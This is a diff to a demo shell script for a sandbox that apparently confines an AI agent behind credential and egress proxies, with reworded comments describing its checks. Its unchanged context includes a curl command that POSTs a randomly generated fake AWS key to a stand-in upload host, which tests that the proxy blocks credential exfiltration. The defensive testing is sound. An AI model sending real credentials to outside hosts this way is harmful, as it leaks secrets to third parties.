@@ -2,7 +2,7 @@
 # The claude-bottle demo: runs real bottles from examples/demo/ against local stand-ins for
 # the remote services and prints each step with its outcome.
 #
-#   1. `claude -p "hello there"` answers through cred-proxy and egress-proxy's TLS interception;
+#   1. `claude -p "hello there"` gets its reply through cred-proxy and egress-proxy's TLS interception;
 #      the Messages API stand-in checks the token that cred-proxy injected (the agent never
 #      holds it)
 #   2. curl to a host not on the allowlist gets 403 from egress-proxy
@@ -130,8 +130,8 @@ say "3. curl -X POST of a credential-shaped body to https://api.standin.test/upl
 AWS_KEY="AKIA$(head -c 200 /dev/urandom | tr -dc 'A-Z2-7' | head -c 16)"
 bottle sh -c "curl -sS -o /dev/null -w '%{http_code}' -X POST --data-binary 'aws_access_key_id=$AWS_KEY' https://api.standin.test/upload; exit 0" || true
 note "egress-proxy answered the POST with: $(cat "$WORK/out")"
-# egress-proxy forwards a request's head before its body is scanned, so the stand-in may log
-# an aborted POST /upload; what matters is that none of the body reached it.
+# egress-proxy forwards a request's head before it scans the body, so the stand-in may log an
+# aborted POST /upload. The promise is that no byte of the body reaches it.
 received=$(api_requests | python3 -c 'import json,sys; print(sum(json.loads(l)["body_bytes"] for l in sys.stdin if "/upload" in l))')
 note "body bytes the stand-in received for /upload: $received"
 if [[ $(cat "$WORK/out") == 403 && $received == 0 ]]; then
